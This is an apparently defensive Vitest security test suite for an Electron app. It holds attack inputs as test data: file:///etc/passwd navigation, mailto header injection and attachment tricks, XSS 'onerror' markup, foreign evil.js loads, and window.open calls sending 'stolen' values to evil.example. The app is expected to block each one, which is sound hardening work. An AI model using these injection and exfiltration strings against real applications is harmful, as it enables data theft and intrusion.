import { join } from 'node:path'
import { expect, inject, test } from 'vitest'
import { packedProgram, root } from '../build/runtime.ts'
import { openApp } from './app.ts'
import { openConsole } from './steps.ts'
import { output } from './testDesktop.ts'

const server = inject('server')

const app = openApp(async ({ electron, page }) => {
  await openConsole(page, server)
  // Records links and dialogs instead of opening a browser.
  await electron.evaluate(({ dialog, shell }) => {
    const opened: string[] = []
    const dialogs: string[] = []
    Object.assign(globalThis, { opened, dialogs, dialogAnswer: Promise.resolve(0) })
    shell.openExternal = async (url) => void opened.push(url)
    dialog.showMessageBox = async (...args: unknown[]) => {
      dialogs.push((args.at(-1) as Electron.MessageBoxOptions).message)
      const response = await (globalThis as unknown as { dialogAnswer: Promise<number> }).dialogAnswer
      return { response, checkboxChecked: false }
    }
  })
})

const openedLinks = () =>
  app.electron.evaluate(() => (globalThis as unknown as { opened: string[] }).opened.splice(0))

const shownDialogs = () =>
  app.electron.evaluate(() => (globalThis as unknown as { dialogs: string[] }).dialogs.splice(0))

test('the page has no Node or Electron globals, and the window is sandboxed and isolated', async () => {
  const seen = await app.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].filter(
      (name) => name in globalThis,
    ),
  )
  expect(seen).toEqual([])
  const settings = await app.electron.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>
    }
    return contents.getLastWebPreferences()
  })
  expect(settings).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webviewTag: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    experimentalFeatures: false,
    nodeIntegrationInSubFrames: false,
    enableBlinkFeatures: '',
  })
})

test('the page cannot navigate to another origin', async () => {
  const before = app.page.url()
  for (const url of ['https://example.com/', `${server}/`, 'file:///etc/passwd', 'data:text/html,<p>gone']) {
    await app.page.evaluate((to) => location.assign(to), url)
  }
  await app.page.evaluate(() => new Promise((resolve) => setTimeout(resolve)))
  expect(app.page.url()).toBe(before)
  expect(await app.page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
    'SMS Lead Management Dashboard',
  )
  expect(await openedLinks()).toEqual(['https://example.com/'])
  expect(await shownDialogs()).toEqual(['Open example.com in your browser?'])
})

test('only https links open in the system browser', async () => {
  const windows = await app.page.evaluate((insecure) => {
    const urls = [
      'https://example.com/help',
      insecure,
      'file:///etc/passwd',
      'javascript:alert(1)',
      'https://a:b@example.com/',
    ]
    return urls.map((url) => window.open(url) === null)
  }, server)
  expect(windows).toEqual([true, true, true, true, true])
  expect(await openedLinks()).toEqual(['https://example.com/help'])
  expect(await shownDialogs()).toEqual(['Open example.com in your browser?'])
  expect(app.electron.windows()).toHaveLength(1)
})

test('a link with plain headers opens the mail program; one with another header opens nothing', async () => {
  const click = (href: string) =>
    app.page.evaluate((to) => Object.assign(document.createElement('a'), { href: to }).click(), href)
  const before = app.page.url()
  for (const refused of [
    'mailto:aoife@example.com?attach=/etc/passwd',
    'mailto:aoife@example.com?subject=Hi&attachment=/etc/passwd',
    'mailto:aoife@example.com?subject=Hi%0D%0ABcc:eve@evil.example',
    'mailto:aoife@example.com,eve@evil.example?subject=Hi',
    'tel:+447700900301',
  ]) {
    await click(refused)
  }
  const draft = 'mailto:aoife@example.com?subject=Offer%20of%20Glow&body=Hi%20Aoife,%0D%0A%0D%0Aplease%20read'
  await click(draft)
  await expect.poll(openedLinks).toEqual([draft])
  expect(await shownDialogs()).toEqual(['Write an email to aoife@example.com?'])
  expect(app.page.url()).toBe(before)
})

test('a script cannot open links without the user’s confirmation, with one dialog at a time', async () => {
  await app.electron.evaluate(() => {
    const dialogAnswer = new Promise((resolve) => Object.assign(globalThis, { cancel: () => resolve(1) }))
    Object.assign(globalThis, { dialogAnswer })
  })
  await app.page.evaluate(() => {
    for (let n = 0; n < 50; n++) window.open(`https://evil.example/?stolen=${n}`)
  })
  await app.electron.evaluate(() => (globalThis as unknown as { cancel(): void }).cancel())
  expect(await openedLinks()).toEqual([])
  expect(await shownDialogs()).toEqual(['Open evil.example in your browser?'])
})

test('the content security policy blocks HTML and code from text, inline and foreign scripts, frames and requests', async () => {
  const blocked = await app.page.evaluate(async (foreign) => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const isBlocked = (attempt: () => void) => {
      try {
        attempt()
        return false
      } catch {
        return true
      }
    }
    const script = document.createElement('script')
    const button = document.createElement('button')
    const blockedWrites = [
      () => (document.createElement('p').innerHTML = '<img src=x onerror="hacked = true">'),
      () => document.body.insertAdjacentHTML('beforeend', '<p>'),
      () => document.write('<p>'),
      () => (script.text = 'window.hacked = true'),
      () => script.append('window.hacked = true'),
      () => (script.src = `${foreign}/evil.js`),
      () => button.setAttribute('onclick', 'window.hacked = true'),
    ].map(isBlocked)
    const module = Object.assign(document.createElement('link'), { rel: 'modulepreload' })
    module.href = `${foreign}/evil.js`
    document.head.append(module)
    const frame = document.createElement('iframe')
    frame.src = foreign
    document.body.append(frame)
    // In a new task, because code run by the inspector may evaluate strings.
    const evaluated = await new Promise((resolve) =>
      setTimeout(() => {
        try {
          resolve(new Function('return 1')())
        } catch {
          resolve('blocked')
        }
      }),
    )
    const fetched = await fetch(`${foreign}/healthz`).then(
      () => 'allowed',
      () => 'blocked',
    )
    await new Promise((resolve) => setTimeout(resolve, 200))
    frame.remove()
    return {
      hacked: 'hacked' in window,
      evaluated,
      blockedWrites,
      fetched,
      violations: [...new Set(violations)].sort(),
    }
  }, server)
  expect(blocked).toEqual({
    hacked: false,
    evaluated: 'blocked',
    blockedWrites: [true, true, true, true, true, true, true],
    fetched: 'blocked',
    violations: ['connect-src', 'frame-src', 'require-trusted-types-for', 'script-src-elem'],
  })
})

test('permissions are denied', async () => {
  const states = await app.page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi']
    return Promise.all(
      names.map((name) =>
        navigator.permissions.query({ name: name as PermissionName }).then((found) => found.state),
      ),
    )
  })
  expect(states).toEqual(['denied', 'denied', 'denied', 'denied', 'denied'])
  const media = await app.page.evaluate(() =>
    navigator.mediaDevices.getUserMedia({ audio: true }).then(
      () => 'allowed',
      (error) => error.name,
    ),
  )
  expect(media).not.toBe('allowed')
})

test('the fuses disable Node options and allow only the app’s archive', async () => {
  const fuses = join(root, 'node_modules/.bin/electron-fuses')
  const states = await output(fuses, ['read', '--app', packedProgram()], { PATH: process.env.PATH ?? '' })
  for (const fuse of [
    'RunAsNode is Disabled',
    'EnableNodeOptionsEnvironmentVariable is Disabled',
    'EnableCookieEncryption is Enabled',
    'EnableEmbeddedAsarIntegrityValidation is Enabled',
    'OnlyLoadAppFromAsar is Enabled',
  ]) {
    expect(states).toContain(fuse)
  }
})

test('the console shows no unexpected errors', () => {
  const expected =
    /Content Security Policy|Failed to load resource|ERR_BLOCKED|Not allowed to load local resource|Refused to|violates|navigate|requires 'Trusted/
  expect(app.complaints.filter((line) => !expected.test(line))).toEqual([])
})
